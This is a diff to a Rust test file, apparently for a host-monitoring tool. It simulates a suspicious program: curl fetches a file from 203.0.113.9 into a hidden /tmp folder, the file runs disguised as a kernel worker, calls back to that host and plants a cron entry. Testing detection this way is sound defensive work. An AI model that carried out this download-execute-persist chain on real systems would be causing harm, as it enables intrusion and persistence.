@@ -223,17 +223,16 @@ fn an_incident_that_ends_by_itself_is_watched_and_the_watch_ends() {
 /// A program that is suspected, and no more, because of its names and places.
 fn suspected(day: &mut Watch) {
     let shell = day.shell();
-    let curl =
-        day.host.spawn(shell, "/usr/bin/curl", &["curl", "-o", "/tmp/.x/kworker", "http://203.0.113.9/x"]);
+    let curl = day.host.spawn(shell, "/usr/bin/curl", &["curl", "-o", "/tmp/.x/job", "http://203.0.113.9/x"]);
     day.host.connect(curl, "203.0.113.9:80");
-    day.host.create(curl, "/tmp/.x/kworker", 0o755);
+    day.host.create(curl, "/tmp/.x/job", 0o755);
     day.host.exit(curl);
-    let program = day.host.spawn(shell, "/tmp/.x/kworker", &["[kworker/0:1]"]);
+    let program = day.host.spawn(shell, "/tmp/.x/job", &["[kworker/0:1]"]);
     day.host.connect(program, "203.0.113.9:443");
     day.host.create(program, "/etc/cron.d/z", 0o644);
     day.host.wait(seconds(2));
     day.host.exit(program);
-    day.host.delete(shell, "/tmp/.x/kworker");
+    day.host.delete(shell, "/tmp/.x/job");
     day.host.exit(shell);
 }
 
@@ -251,7 +250,7 @@ fn who_was_only_suspected_has_to_show_something_unless_a_person_asked() {
         }
         day.told();
         let shell = day.shell();
-        let harmless = day.host.spawn(shell, "/tmp/.x/kworker", &["kworker"]);
+        let harmless = day.host.spawn(shell, "/tmp/.x/job", &["job"]);
         day.host.exit(harmless);
         let told = day.told();
         assert_eq!(!told.is_empty(), is_asked, "{told:?}");
